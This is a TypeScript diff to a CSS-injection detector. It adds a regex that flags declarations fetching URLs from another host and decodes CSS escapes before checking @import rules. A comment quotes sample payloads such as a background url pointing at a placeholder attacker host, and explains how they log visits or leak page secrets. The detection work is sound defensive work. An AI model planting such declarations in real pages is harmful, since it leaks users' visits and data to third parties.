@@ -20,6 +20,14 @@ const SCRIPTED_CSS =
  */
 const IMPORT_RULE = /@import\s*(?:url\s*\(|["'])/i;
 
+/**
+ * `;background:url(//evil.example/log)`, `red;list-style-image:url("https://…")`: the value ends the declaration
+ * it was placed in (a `style` attribute, a colour setting) and adds one that fetches from another host, which
+ * reports the visit or, with attribute selectors, the page's secrets. A site's own image (`url(/img/bg.png)`) is
+ * styling. Bounded runs of single classes: linear.
+ */
+const DECLARATION_WITH_URL = /;\s*-?[a-z][a-z-]{1,30}\s*:[^;{}:]{0,60}\burl\s*\(\s*(?:["']\s*)?(?:https?:)?\/\//i;
+
 /** The properties an injected rule uses (layout, colour, content, fonts, URLs); not an exhaustive list. */
 const CSS_PROPERTIES = new Set(
   "background background-color background-image border color content cursor display filter font font-family font-size height left list-style margin opacity padding position src top visibility width z-index behavior behaviour -moz-binding".split(
@@ -49,10 +57,14 @@ function decodeCssEscapes(value: string): string {
 }
 
 export function findCss(value: string): CssHit | undefined {
-  const scripted = SCRIPTED_CSS.exec(value.includes("\\") ? decodeCssEscapes(value) : value);
+  const css = value.includes("\\") ? decodeCssEscapes(value) : value;
+  const scripted = SCRIPTED_CSS.exec(css);
   if (scripted !== null) return { score: 0.85, what: "script-running CSS", index: scripted.index };
-  const imported = value.includes("@") ? IMPORT_RULE.exec(value) : null;
+  // `@im\port 'x.css'`: escapes decode inside an at-keyword too.
+  const imported = value.includes("@") ? IMPORT_RULE.exec(css) : null;
   if (imported !== null) return { score: 0.75, what: "CSS @import", index: imported.index };
+  const declaration = value.includes("url") ? DECLARATION_WITH_URL.exec(css) : null;
+  if (declaration !== null) return { score: 0.7, what: "CSS declaration loading a URL", index: declaration.index };
   if (!value.includes("{")) return undefined;
   DECLARATION_BLOCK.lastIndex = 0;
   for (let match = DECLARATION_BLOCK.exec(value); match !== null; match = DECLARATION_BLOCK.exec(value)) {
